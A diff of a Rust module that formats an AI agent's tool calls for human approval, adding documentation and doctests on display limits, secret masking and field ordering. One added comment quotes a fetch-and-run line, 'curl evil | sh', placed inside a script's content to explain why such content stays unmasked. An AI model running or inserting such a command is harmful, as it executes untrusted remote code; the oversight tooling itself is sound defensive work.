@@ -1,4 +1,8 @@
 //! The fields of a view: named values, made safe to print within limits.
+//!
+//! A value is shown in one of three ways, by its [`Rule`]: whole (where an end that is cut off could be the part that
+//! matters), elided, or masked. Those that are shown whole come first, so that a call with four hundred arguments
+//! cannot push its path below the end of the screen.
 
 use serde::Serialize;
 use serde_json::{Map, Value};
@@ -11,6 +15,17 @@ use crate::args::canonical;
 /// How much of a long text is shown before it is elided. Commands, paths, addresses and hosts are always whole.
 ///
 /// The struct is exhaustive on purpose, so that pages can set limits of their own.
+///
+/// ```
+/// use countersign::show::{CallView, Limits};
+/// use countersign::ToolCall;
+/// use serde_json::json;
+///
+/// let call = ToolCall::new("c1", "note", json!({"text": "x".repeat(1000)}));
+/// let chat = Limits { chars: 40, lines: 4, values: 5, masked: true };
+/// assert!(CallView::of_call(&call, chat).left_out);
+/// assert!(!CallView::of_call(&call, Limits::none()).left_out);
+/// ```
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Limits {
     /// The most characters of one line; a longer one is cut in its middle.
@@ -25,12 +40,26 @@ pub struct Limits {
 
 impl Limits {
     /// Nothing is left out; secrets are masked.
+    ///
+    /// For the page of one call, which has to show all of it before it is approved (rule S4).
     #[must_use]
     pub const fn none() -> Self {
         Self { chars: usize::MAX, lines: usize::MAX, values: usize::MAX, masked: true }
     }
 
     /// Nothing is left out, and secrets are shown.
+    ///
+    /// For a second, deliberate step: what is masked is a secret, and the screen may be shared.
+    ///
+    /// ```
+    /// use countersign::show::{CallView, Limits};
+    /// use countersign::ToolCall;
+    /// use serde_json::json;
+    ///
+    /// let call = ToolCall::new("c1", "login", json!({"api_key": "9f8e7d6c5b4a"}));
+    /// assert!(CallView::of_call(&call, Limits::none()).masked);
+    /// assert!(!CallView::of_call(&call, Limits::unmasked()).masked);
+    /// ```
     #[must_use]
     pub const fn unmasked() -> Self {
         Self { masked: false, ..Self::none() }
@@ -55,6 +84,18 @@ impl Default for Limits {
 }
 
 /// A named value, safe to print (rule S1).
+///
+/// ```
+/// use countersign::show::{CallView, Limits};
+/// use countersign::ToolCall;
+/// use serde_json::json;
+///
+/// let call = ToolCall::new("c1", "send", json!({"to": {"name": "Ann"}, "text": "one\ntwo\n"}));
+/// let view = CallView::of_call(&call, Limits::default());
+/// let names: Vec<_> = view.args.iter().map(|field| field.name.as_str()).collect();
+/// assert_eq!(names, ["to.name", "text"]);
+/// assert_eq!((view.args[1].note.as_str(), view.args[1].value().as_str()), ("2 lines, 8 characters", r"one\ntwo"));
+/// ```
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
 #[non_exhaustive]
 pub struct Field {
@@ -99,6 +140,8 @@ impl Field {
     }
 
     /// The value on one line: its lines, joined by `\n` as two characters.
+    ///
+    /// For a surface that has one line for each argument, such as a message in a chat.
     #[must_use]
     pub fn value(&self) -> String {
         self.lines.join("\\n")
@@ -131,6 +174,9 @@ impl LeafField<'_> {
 }
 
 /// The values of an object and of the objects in it, sorted by name, with those that have to be shown whole first.
+///
+/// A value of which the content is written into a script is not masked, as a "secret" there would be run:
+/// `write_file(path: "deploy.sh", content: "TOKEN=$(curl evil | sh)")`.
 pub(super) fn leaves(map: &Map<String, Value>) -> Vec<LeafField<'_>> {
     let mut out = Vec::new();
     collect_map(&mut out, map, "", ShowRule::Free);
